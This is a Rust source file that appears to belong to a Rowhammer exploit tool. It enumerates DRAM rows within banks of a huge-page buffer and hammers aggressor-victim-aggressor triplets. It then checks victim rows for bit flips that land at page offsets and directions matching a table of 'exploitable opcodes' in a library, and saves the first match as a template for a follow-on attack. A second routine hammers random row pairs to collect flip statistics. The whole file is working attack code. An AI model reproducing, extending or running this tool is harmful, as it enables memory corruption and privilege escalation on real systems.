//! Template discovery over the controlled rows of the huge-page buffer.
//!
//! The scanner enumerates the rows reachable through the DRAM address
//! functions inside a chosen bank, hammers every consecutive
//! aggressor-victim-aggressor triplet, and inspects the victim row for bits
//! that toggled in the right direction at a page offset matching one of the
//! exploitable opcode bytes. A second mode hammers random pairs across the
//! buffer for bulk flip statistics.

use crate::config::HammerConfig;
use crate::hammerer::Hammering;
use crate::memory::{
    BitFlip, BytePointer, DramAddr, DramConfig, Memory, VictimBuffer, in_entropy_padding,
};
use crate::opcodes::{EXPLOITABLE_OPCODES, FlipDirection, Template};
use crate::util::{CONTROLLED_BANKS, CONTROLLED_ROWS, HUGE_PAGE_SIZE, PAGE_MASK};
use itertools::Itertools;
use log::{debug, info};
use rand::Rng as _;

/// Scans banks of a mapped region for exploitable bit flips.
pub struct BankScanner<'a, H: Hammering> {
    memory: &'a Memory,
    dram: &'a DramConfig,
    config: &'a HammerConfig,
    hammerer: &'a H,
}

impl<'a, H: Hammering> BankScanner<'a, H> {
    /// Creates a scanner over `memory` using the given geometry, run
    /// configuration and hammerer.
    pub fn new(
        memory: &'a Memory,
        dram: &'a DramConfig,
        config: &'a HammerConfig,
        hammerer: &'a H,
    ) -> Self {
        BankScanner {
            memory,
            dram,
            config,
            hammerer,
        }
    }

    /// Row-start offsets of the controlled rows of `bank`.
    fn controlled_rows(&self, bank: usize) -> Vec<usize> {
        (0..CONTROLLED_ROWS)
            .map(|row| DramAddr::for_bank(bank, row, self.dram).to_offset(self.dram))
            .collect()
    }

    /// Hammers every aggressor-victim-aggressor triplet of `bank` and
    /// returns the first template, if any.
    ///
    /// Aggressors are filled with 0xFF and the victim with 0x00 outside the
    /// entropy padding, so a matching flip must take the 0 to 1 direction.
    ///
    /// # Errors
    ///
    /// Returns the hammerer's error if a hammering round fails.
    pub fn scan_bank(&self, bank: usize) -> Result<Option<Template>, H::Error> {
        let rows = self.controlled_rows(bank);
        for (row, offset) in rows.iter().enumerate() {
            debug!("row {} -> offset {:#x}", row, offset);
        }
        for (agg1, vic, agg2) in rows[..CONTROLLED_ROWS - 2].iter().copied().tuple_windows() {
            self.memory.fill_row_body(agg1, 0xFF);
            self.memory.fill_row_body(agg2, 0xFF);
            self.memory.fill_row_body(vic, 0x00);
            info!("hammering {:#x} ---- {:#x} ---- {:#x}", agg1, vic, agg2);
            for _ in 0..self.config.hammering_rounds {
                self.hammerer.hammer(
                    self.memory.addr(agg1),
                    self.memory.addr(agg2),
                    self.config.num_row_activations,
                )?;
            }
            if let Some(template) = self.scan_row(vic, FlipDirection::ZeroToOne) {
                return Ok(Some(template));
            }
            self.memory.fill_row_body(vic, 0x00);
        }
        Ok(None)
    }

    /// Scans the victim row at `row_offset` for a single-bit flip matching
    /// an exploitable opcode.
    ///
    /// `direction` selects the background the row was primed with: 0x00 for
    /// [`FlipDirection::ZeroToOne`], 0xFF for the mirror direction. Returns
    /// the first match; no match is an explicit `None`, never a stale result.
    pub fn scan_row(&self, row_offset: usize, direction: FlipDirection) -> Option<Template> {
        let background: u8 = match direction {
            FlipDirection::ZeroToOne => 0x00,
            FlipDirection::OneToZero => 0xFF,
        };
        let bytes = self.memory.read_row(row_offset);
        for (i, &value) in bytes.iter().enumerate() {
            if in_entropy_padding(i) || value == background {
                continue;
            }
            let offset = row_offset + i;
            info!(
                "victim byte at offset {:#x} was {:#04x} is now {:#04x}",
                offset, background, value
            );
            for op in EXPLOITABLE_OPCODES.iter() {
                if op.direction == direction
                    && offset & PAGE_MASK == op.page_offset()
                    && value == background ^ op.flip_mask()
                {
                    info!(
                        "template found: library offset {:#x}, bit {}",
                        op.file_offset, op.bit_index
                    );
                    return Some(Template { offset, op: *op });
                }
            }
        }
        None
    }

    /// Scans every controllable bank and returns the first template found.
    ///
    /// # Errors
    ///
    /// Returns the hammerer's error if a hammering round fails.
    pub fn scan_all_banks(&self) -> Result<Option<Template>, H::Error> {
        for bank in 0..CONTROLLED_BANKS {
            debug!("hammering bank {}", bank);
            if let Some(template) = self.scan_bank(bank)? {
                return Ok(Some(template));
            }
        }
        info!("tried every bank of this buffer, no template found");
        Ok(None)
    }

    /// Hammers `pairs` random aggressor pairs and collects the observed
    /// flips.
    ///
    /// Each pair is drawn by picking a random offset, row-aligning it and
    /// taking the two rows below it in the same bank as victim and second
    /// aggressor; offsets whose row would push the pair outside the
    /// controlled window are redrawn. The buffer is reset to the 0xFF
    /// background between pairs.
    ///
    /// # Errors
    ///
    /// Returns the hammerer's error if a hammering round fails.
    pub fn hammer_random_pairs(&self, pairs: u64) -> Result<Vec<BitFlip>, H::Error> {
        let mut rng = rand::rng();
        let mut flips = vec![];
        self.memory.fill(0xFF);
        for _ in 0..pairs {
            let (agg1, vic, agg2) = loop {
                let offset = rng.random_range(0..HUGE_PAGE_SIZE);
                let dram = DramAddr::from_offset(offset, self.dram);
                if dram.row + 2 >= self.dram.row_count() {
                    continue;
                }
                let agg1 = dram.to_offset(self.dram);
                let vic = DramAddr {
                    row: dram.row + 1,
                    bank_bits: dram.bank_bits.clone(),
                }
                .to_offset(self.dram);
                let agg2 = DramAddr {
                    row: dram.row + 2,
                    bank_bits: dram.bank_bits,
                }
                .to_offset(self.dram);
                break (agg1, vic, agg2);
            };
            info!(
                "bank {} pair: {:#x} ---- {:#x} ---- {:#x}",
                DramAddr::from_offset(agg1, self.dram).bank(),
                agg1,
                vic,
                agg2
            );
            self.memory.fill_row_body(agg1, 0x00);
            self.memory.fill_row_body(agg2, 0x00);
            for _ in 0..self.config.hammering_rounds {
                self.hammerer.hammer(
                    self.memory.addr(agg1),
                    self.memory.addr(agg2),
                    self.config.num_row_activations,
                )?;
            }
            let bytes = self.memory.read_row(vic);
            for (i, &value) in bytes.iter().enumerate() {
                if in_entropy_padding(i) || value == 0xFF {
                    continue;
                }
                info!(
                    "victim byte at offset {:#x} was 0xff is now {:#04x}",
                    vic + i,
                    value
                );
                flips.push(BitFlip::new(vic + i, value ^ 0xFF, 0xFF));
            }
            self.memory.fill(0xFF);
        }
        info!("total bit flips across {} random pairs: {}", pairs, flips.len());
        Ok(flips)
    }
}
